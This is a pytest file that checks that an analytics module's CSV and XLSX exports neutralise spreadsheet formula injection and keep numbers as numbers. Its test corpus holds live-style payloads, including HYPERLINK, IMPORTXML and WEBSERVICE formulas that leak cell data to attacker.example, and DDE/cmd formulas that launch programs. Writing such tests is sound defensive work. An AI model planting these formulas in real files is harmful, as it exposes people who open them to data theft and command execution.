"""Formula injection: every download is safe to open in a spreadsheet (OWASP's CSV injection rule).

A corpus of strings that spreadsheet programs would run goes through ``to_csv_bytes`` and
``to_xlsx_bytes`` in every kind of text column (object, pandas string, categorical) and as column
names; reading the files back with ``csv`` and ``openpyxl``, each such cell starts with ``'`` and
holds the rest unchanged, while numbers (negative ones too) are still numbers.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from analytics.export import FORMULA_PREFIXES, to_csv_bytes, to_xlsx_bytes

INJECTIONS = [
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C notepad'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "=1+1\n=2+2",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")',
    '=WEBSERVICE("http://attacker.example")',
    "=Chỉ tiêu+1",
    "=",
    '="=1+1"',
    "=1,=2;3",
]

HARMLESS = ["CPI", "Chỉ số giá tiêu dùng", "1.5", "'=already quoted", " =1+1", "a=b", ""]


def _frame(texts: list[str], kind: str) -> pd.DataFrame:
    n = len(texts)
    column = {
        "object": pd.Series(texts, dtype=object),
        "string": pd.Series(texts, dtype="string"),
        "category": pd.Series(texts, dtype="category"),
    }[kind]
    return pd.DataFrame(
        {
            "text": column,
            "value": [-(i + 1.5) for i in range(n)],
            "count": [-(i + 1) for i in range(n)],
            "mixed": [-7 if i % 2 else "=2+2" for i in range(n)],
        }
    )


def _expected(text: str) -> str:
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def _xml_newlines(text: str) -> str:
    """What an XML reader makes of line ends in a cell: every ``\r\n`` or ``\r`` is ``\n``."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list[openpyxl.cell.Cell]]:
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    return [list(row) for row in workbook["data"].iter_rows()]


def test_the_corpus_covers_every_dangerous_first_character() -> None:
    assert {text[0] for text in INJECTIONS} == set(FORMULA_PREFIXES)


@pytest.mark.parametrize("kind", ["object", "string", "category"])
def test_csv_neutralises_every_formula_and_keeps_numbers(kind: str) -> None:
    texts = INJECTIONS + HARMLESS
    header, *rows = _csv_rows(to_csv_bytes(_frame(texts, kind)))
    assert header == ["text", "value", "count", "mixed"]
    assert [row[0] for row in rows] == [_expected(text) for text in texts]
    for i, row in enumerate(rows):
        assert float(row[1]) == -(i + 1.5), "a negative float is written as a number"
        assert row[2] == str(-(i + 1)), "a negative integer is written as a number"
        assert row[3] == ("-7" if i % 2 else "'=2+2"), "numbers in a text column stay numbers"
    for row in rows:
        assert not row[0].startswith(FORMULA_PREFIXES), row[0]


@pytest.mark.parametrize("kind", ["object", "string", "category"])
def test_xlsx_neutralises_every_formula_and_keeps_numbers(kind: str) -> None:
    texts = INJECTIONS + HARMLESS
    header, *rows = _xlsx_rows(to_xlsx_bytes({"data": _frame(texts, kind)}))
    assert [cell.value for cell in header] == ["text", "value", "count", "mixed"]
    for i, (text_cell, value_cell, count_cell, mixed_cell) in enumerate(rows):
        expected = _expected(texts[i])
        if expected:
            assert text_cell.data_type == "s", f"{texts[i]!r} must be text, not a formula"
            # A line end comes back as written where openpyxl writes with lxml (which escapes a
            # carriage return), or as an XML reader normalises it without.
            assert text_cell.value in {expected, _xml_newlines(expected)}
        assert value_cell.data_type == "n" and value_cell.value == -(i + 1.5)
        assert count_cell.data_type == "n" and count_cell.value == -(i + 1)
        if i % 2:
            assert mixed_cell.data_type == "n" and mixed_cell.value == -7
        else:
            assert (mixed_cell.data_type, mixed_cell.value) == ("s", "'=2+2")
    assert not any(cell.data_type == "f" for row in rows for cell in row)


@pytest.mark.parametrize("name", ["=1+1", "@cmd", "-x", "+x", "\tx"])
def test_column_names_are_neutralised_too(name: str) -> None:
    frame = pd.DataFrame({name: ["ok"], "value": [-1.0]})
    assert _csv_rows(to_csv_bytes(frame))[0] == ["'" + name, "value"]
    header = _xlsx_rows(to_xlsx_bytes({"data": frame}))[0]
    assert (header[0].data_type, header[0].value) == ("s", "'" + name)


def test_a_frame_with_only_numbers_is_written_unchanged() -> None:
    frame = pd.DataFrame({"year": [2024, 2025], "growth": [-0.5, 7.09]})
    assert _csv_rows(to_csv_bytes(frame)) == [
        ["year", "growth"],
        ["2024", "-0.5"],
        ["2025", "7.09"],
    ]


@pytest.mark.parametrize("text", ["ok\r=1+1", "ok\n=1+1", "ok\r\n@SUM(1)", 'say "=1+1"\r-2'])
def test_a_line_break_inside_a_cell_cannot_start_a_new_row(text: str) -> None:
    frame = pd.DataFrame({"note": [text], "value": [-3]})
    assert _csv_rows(to_csv_bytes(frame)) == [["note", "value"], [text, "-3"]]
